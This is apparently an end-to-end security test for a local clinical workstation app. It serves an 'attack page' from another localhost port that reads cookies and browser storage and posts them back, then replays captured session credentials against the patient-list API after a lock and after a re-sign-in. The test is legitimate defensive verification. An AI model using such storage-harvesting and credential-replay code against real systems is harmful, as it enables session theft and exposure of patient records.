import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createVault, e2eSkipReason, screenshot, ensureRendererBuilt, launchChromium, openWorkstation, PASSPHRASE, signIn, startHost, type OpenedPage, type RunningHost } from '../e2e/support';
import { send } from '../helpers/host-client';
import { writeTrustResult } from './support';

/**
 * The browser host's credential, attacked as a curious local program would:
 * Chromium signs in to the workstation, then visits a page that another
 * local server (another port on 127.0.0.1) serves. That server records every
 * header it receives, and its page reports what it can read (cookies,
 * storage). Whatever credential the workstation used (cookie or header
 * secret, seen on the wire) must reach that port in no form. Then every
 * credential seen is replayed from outside the browser, with the right
 * Origin, after the clinician locks, and again after they sign in anew: none
 * may read the patient list.
 */
const skip = e2eSkipReason({ synthea: false });
const STEP_MS = 90_000;

let running: RunningHost;
let browser: Browser;
let opened: OpenedPage;
let page: Page;
let other: Server;
let otherPort = 0;
const otherSaw: IncomingHttpHeaders[] = [];
const otherPageRead: string[] = [];
/** Every credential the workstation's page sent or was given: cookie pairs and header secrets. */
const credentials = new Set<string>();

function watchCredentials(p: Page, hostPort: number): void {
  p.on('request', (request) => {
    if (!request.url().startsWith(`http://127.0.0.1:${hostPort}/`)) return;
    void request.allHeaders().then((headers) => {
      if (headers['cookie']) for (const pair of headers['cookie'].split(/;\s*/)) credentials.add(pair);
      if (headers['continuum-session']) credentials.add(headers['continuum-session']);
    });
  });
  p.on('response', (response) => {
    if (!response.url().startsWith(`http://127.0.0.1:${hostPort}/`)) return;
    void response.allHeaders().then((headers) => {
      if (headers['continuum-session']) credentials.add(headers['continuum-session']);
      for (const cookie of (headers['set-cookie'] ?? '').split('\n').filter(Boolean)) credentials.add(cookie.split(';')[0]!);
    });
  });
}

/** The page a local program serves on another port: it reports what it can read of the workstation's origin. */
const ATTACK_PAGE = `<!doctype html><title>printer</title><script>
  const found = { cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) };
  fetch('/report', { method: 'POST', body: JSON.stringify(found) }).then(() => { document.title = 'reported'; });
</script>`;

beforeAll(async () => {
  if (skip) return;
  running = await startHost(await ensureRendererBuilt());
  other = createServer((req, res) => {
    otherSaw.push(req.headers);
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString('utf8')));
      req.on('end', () => {
        otherPageRead.push(body);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(ATTACK_PAGE);
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherPort = (other.address() as AddressInfo).port;
  browser = await launchChromium();
  opened = await openWorkstation(browser, running.host);
  page = opened.page;
  watchCredentials(page, running.host.port);
}, 10 * 60_000);

afterAll(async () => {
  await opened?.context.close().catch(() => undefined);
  await browser?.close().catch(() => undefined);
  await new Promise((resolve) => (other ? other.close(resolve) : resolve(undefined)));
  await running?.close();
});

/** POST /api/patients.list with one stolen credential, sent both ways a browser could have carried it; ok answers. */
async function replay(credential: string): Promise<number> {
  const port = running.host.port;
  const common = { origin: `http://127.0.0.1:${port}`, 'content-type': 'application/json' };
  let readable = 0;
  for (const headers of [{ ...common, cookie: credential }, { ...common, 'continuum-session': credential.includes('=') ? credential.split('=').slice(1).join('=') : credential }]) {
    const reply = await send(port, { method: 'POST', path: '/api/patients.list', body: '{}', headers });
    if (reply.status === 200 && (JSON.parse(reply.text) as { ok?: boolean }).ok === true) readable += 1;
  }
  return readable;
}

describe.skipIf(skip !== null)(`the browser host's credential (Chromium)${skip ? ` (skipped: ${skip})` : ''}`, () => {
  const figures = { credentialsSeen: 0, readFromOtherPort: 0, replayedAfterLock: 0, replayedAfterSignIn: 0, replays: 0 };

  it('signs in on the one-time link', async () => {
    await createVault(page);
    await page.getByText('No patients yet').waitFor({ timeout: STEP_MS });
    expect(credentials.size).toBeGreaterThan(0);
  }, STEP_MS * 2);

  it('a page on another local port receives and reads none of it', async () => {
    const attack = await opened.context.newPage();
    await attack.goto(`http://127.0.0.1:${otherPort}/`);
    await attack.waitForFunction(() => document.title === 'reported', null, { timeout: STEP_MS });
    await attack.close();
    // The workstation's own tab too, navigating away to the other port (the page hands its secret to
    // this tab's storage for the host's origin as it goes) and back (it takes it, and must sign in again).
    await page.goto(`http://127.0.0.1:${otherPort}/same-tab`);
    await page.waitForFunction(() => document.title === 'reported', null, { timeout: STEP_MS });
    await page.goBack();
    const signInScreen = page.getByRole('heading', { name: 'Sign in' });
    const workspace = page.getByText('No patients yet');
    await signInScreen.or(workspace).waitFor({ timeout: STEP_MS });
    if (await signInScreen.isVisible()) {
      await signIn(page, PASSPHRASE);
      await workspace.waitFor({ timeout: STEP_MS });
    }

    const leaks: string[] = [];
    for (const headers of otherSaw) {
      const cookie = String(headers.cookie ?? '');
      if (/continuum/i.test(cookie) || [...credentials].some((c) => cookie.includes(c))) leaks.push(`Cookie header: ${cookie}`);
      for (const value of Object.values(headers)) if ([...credentials].some((c) => String(value).includes(c.split('=').pop()!))) leaks.push(`a header carried a credential`);
    }
    for (const read of otherPageRead) {
      if (/continuum/i.test(read) || [...credentials].some((c) => read.includes(c.split('=').pop()!))) leaks.push(`the page read: ${read}`);
    }
    figures.credentialsSeen = credentials.size;
    figures.readFromOtherPort = leaks.length;
    expect(otherPageRead.length).toBe(2);
    expect(leaks).toEqual([]);
  }, STEP_MS * 3);

  it('no credential seen before a lock reads the patient list after it, nor after the next sign-in', async () => {
    const stolen = [...credentials];
    // Before the lock a stolen credential would work: the replay itself is sound.
    let before = 0;
    for (const credential of stolen) before += await replay(credential);
    expect(before).toBeGreaterThan(0);

    await page.getByRole('button', { name: 'Lock' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor({ timeout: STEP_MS });
    for (const credential of stolen) figures.replayedAfterLock += await replay(credential);

    await signIn(page, PASSPHRASE);
    await page.getByTestId('signed-in-as').waitFor({ timeout: STEP_MS });
    await page.getByText('No patients yet').waitFor({ timeout: STEP_MS });
    for (const credential of stolen) figures.replayedAfterSignIn += await replay(credential);
    figures.replays = stolen.length * 2 * 2;
    writeTrustResult('browser-credential', figures);
    expect(figures.replayedAfterLock).toBe(0);
    expect(figures.replayedAfterSignIn).toBe(0);
    // The workstation itself still works.
    await page.getByRole('button', { name: 'Lock' }).waitFor();
  }, STEP_MS * 4);

  it('a browser opened again (a new profile) on the spent link is told how to get a new one, and the new one works without a restart', async () => {
    const fresh = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    try {
      const again = await fresh.newPage();
      await again.goto(running.host.url);
      await again.getByRole('heading', { name: 'Not connected' }).waitFor({ timeout: STEP_MS });
      await again.getByText(/This link has already been used: each link opens one window\..*press Enter in the terminal.*continuum link/).waitFor();
      await screenshot(again, 'trust', 'spent-link');
      // What the console prints when Enter is pressed (or `continuum link`): a new link, for this browser.
      await again.goto(running.host.newLink());
      await again.getByRole('heading', { name: 'Sign in' }).waitFor({ timeout: STEP_MS });
      await signIn(again, PASSPHRASE);
      await again.getByText('No patients yet').waitFor({ timeout: STEP_MS });
    } finally {
      await fresh.close();
    }
  }, STEP_MS * 3);
});
